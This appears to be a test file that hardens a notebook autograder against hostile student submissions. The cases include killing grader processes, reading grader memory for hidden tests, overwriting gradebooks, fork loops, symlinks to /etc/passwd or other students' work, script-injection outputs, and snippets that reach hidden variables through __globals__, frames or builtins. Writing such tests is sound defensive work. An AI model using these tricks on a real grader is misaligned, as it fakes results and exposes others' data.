THROUGH_GLOBALS = """def add(a, b):
    return np.asarray(a) + np.asarray(b) + add.__globals__["OFF" + "SET"]"""
THROUGH_FRAME = """import sys


def add(a, b):
    return np.asarray(a) + np.asarray(b) + sys._getframe().f_globals["OFF" + "SET"]"""
THROUGH_BUILTINS = """import builtins


def add(a, b):
    return np.asarray(a) + np.asarray(b) + builtins.globals()["".join(["OFF", "SET"])]"""
THROUGH_OWN_MODULE = """with open("offsets.py", "w") as handle:
    handle.write("import __main__\\n\\ndef offset():\\n    return __main__.OFFSET\\n")

import offsets


def add(a, b):
    return np.asarray(a) + np.asarray(b) + offsets.offset()"""


def hardening_attacks(submissions: str, solution: str) -> dict[str, Case]:
    """Attacks on the sandbox, the batch, intake, the feedback and the slicing (see above)."""
    processes = BATCH_PROCESSES.format(submissions=submissions)
    secret = [SECRET, *hidden_marks()]
    return {
        # the sandbox and the batch
        "kills every process of the batch it can see": Case(
            batch_attack(processes + KILLER, MIXED), {"graded"}, 3, hides=hidden_marks()
        ),
        "reads the grader's memory for the hidden tests": Case(
            batch_attack(processes + MEMORY_READER, None),
            {"graded"},
            5,
            hides=[*secret, "ATTACHED"],
        ),
        "writes the grader's logs, results, gradebooks and outputs": Case(
            batch_attack(
                processes + GRADER_WRITER.format(submissions=submissions, mark=MARK), WRONG
            ),
            {"graded"},
            0,
            hides=hidden_marks(),
        ),
        "forks without end": Case(
            batch_attack(FORK_LOOP, MIXED), {"graded"}, 3, hides=["FORK-CAP-NOT-REACHED"]
        ),
        "uses the descriptors the grader left open": Case(
            batch_attack(DESCRIPTORS, MIXED), {"graded"}, 3, hides=["INHERITED"]
        ),
        "leaves a process running after its notebook": Case(
            batch_attack(DAEMON.format(tag=daemon_tag(submissions)), None), {"graded"}, 5
        ),
        # intake
        "notebook is a link to the course's solution": Case(
            lambda release: {"00-tiny.ipynb": Link(solution)},
            {"invalid"},
            0,
            shows=["symbolic link"],
        ),
        "notebook is a link to another student's notebook": Case(
            lambda release: {"00-tiny.ipynb": Link("../../s00/00-tiny/00-tiny.ipynb")},
            {"invalid"},
            0,
            shows=["symbolic link"],
        ),
        "lesson folder is a link to another student's": Case(
            lambda release: {".": Link("../s00/00-tiny")}, {"invalid"}, 0, shows=["symbolic link"]
        ),
        "student folder is a link to another student's": Case(
            lambda release: {"..": Link("s00")}, {"invalid"}, 0, shows=["symbolic link"]
        ),
        "notebook is a link to a system file": Case(
            lambda release: {"00-tiny.ipynb": Link("/etc/passwd")},
            {"invalid"},
            0,
            shows=["symbolic link"],
        ),
        "uploads a folder for a lesson that does not exist": Case(
            lambda release: {
                "00-tiny.ipynb": nb_bytes(answered(release)),
                "../99-fake/00-tiny.ipynb": nb_bytes(answered(release)),
            },
            {"graded"},
            5,
        ),
        "a renamed notebook of 15 MB and 3,000 cells": Case(
            big_renamed, {"repaired"}, 5, shows=["renamed notebook"]
        ),
        # feedback
        "scripts in a Markdown cell, its attachments and the notebook's widget state": Case(
            with_markdown_attack, {"graded"}, 5
        ),
        "scripts in HTML, SVG, Markdown, JavaScript, image and LaTeX outputs": Case(
            with_cells("ex1-add", XSS_OUTPUTS), {"graded"}, 5
        ),
        "outputs that would make a feedback page of 16 MB": Case(
            with_cells("ex1-add", *[HUGE_TEXT] * 4, HUGE_IMAGES), {"graded"}, 5
        ),
        # slicing: a correct answer that reaches a demonstration's variable by another route
        "answer reads a demonstration's variable through sys.modules": Case(
            edited(lambda nb: None, {**RIGHT, "ex1-add": THROUGH_MAIN}), {"graded"}, 5
        ),
        "answer reads a demonstration's variable through importlib": Case(
            edited(lambda nb: None, {**RIGHT, "ex1-add": THROUGH_IMPORTLIB}), {"graded"}, 5
        ),
        "answer reads a demonstration's variable through __globals__": Case(
            edited(lambda nb: None, {**RIGHT, "ex1-add": THROUGH_GLOBALS}), {"graded"}, 5
        ),
        "answer reads a demonstration's variable through its frame": Case(
            edited(lambda nb: None, {**RIGHT, "ex1-add": THROUGH_FRAME}), {"graded"}, 5
        ),
        "answer reads a demonstration's variable through builtins": Case(
            edited(lambda nb: None, {**RIGHT, "ex1-add": THROUGH_BUILTINS}), {"graded"}, 5
        ),
        "answer reads a demonstration's variable through a module it wrote": Case(
            edited(lambda nb: None, {**RIGHT, "ex1-add": THROUGH_OWN_MODULE}), {"graded"}, 5
        ),
    }
